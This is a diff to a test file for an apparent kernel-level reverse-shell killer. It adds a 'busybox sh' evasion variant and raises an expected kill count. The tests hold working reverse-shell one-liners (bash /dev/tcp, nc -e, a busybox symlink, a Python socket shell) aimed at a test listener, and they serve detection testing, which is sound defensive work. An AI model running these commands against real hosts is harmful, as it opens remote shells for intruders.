@@ -80,7 +80,7 @@ describe('in-kernel kill: a reverse shell dies at its exec and the listener rece
   });
 
   test('the agent says which kill rules the kernel decides', () => {
-    assert.match(agent.stderr(), /kill rule 'reverse shell': the kernel kills \(4 case\(s\); the rest in user space\)/);
+    assert.match(agent.stderr(), /kill rule 'reverse shell': the kernel kills \(6 case\(s\); the rest in user space\)/);
     assert.match(agent.stderr(), /kill rule 'no personality change': the kernel kills \(every case\)/);
   });
 
@@ -119,11 +119,13 @@ describe('in-kernel kill: a reverse shell dies at its exec and the listener rece
     }
   });
 
-  test('an attacker\'s variants: exec -a, /bin/sh by path, a symlink to busybox named sh, python exec\'ing sh', async () => {
+  test('an attacker\'s variants: exec -a, /bin/sh by path, busybox sh by name, a symlink to busybox named sh, python exec\'ing sh', async () => {
     const variants: Array<[string, string, string]> = [
       // argv[0] renamed: comm still names the file executed
       ['exec -a', TEST_IMAGES.bash, `bash -c 'exec -a innocent bash -i >& /dev/tcp/${catcher.address}/${catcher.port} 0>&1'; echo "exit $?"`],
       ['nc -e /bin/sh', TEST_IMAGES.busybox, `nc ${catcher.address} ${catcher.port} -e /bin/sh; echo "exit $?"`],
+      // busybox run by name through nc's applet exec: comm "exe", argv ["busybox", "sh"]
+      ['nc -e busybox sh', TEST_IMAGES.busybox, `nc ${catcher.address} ${catcher.port} -e busybox sh; echo "exit $?"`],
       ['symlink', TEST_IMAGES.busybox, `ln -s /bin/busybox /tmp/sh && nc ${catcher.address} ${catcher.port} -e /tmp/sh; echo "exit $?"`],
       ['python', WORKLOAD_IMAGES.python, `python3 -c 'import socket,os; s=socket.create_connection(("${catcher.address}", ${catcher.port})); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv("/bin/sh", ["sh"])'; echo "exit $?"`],
     ];
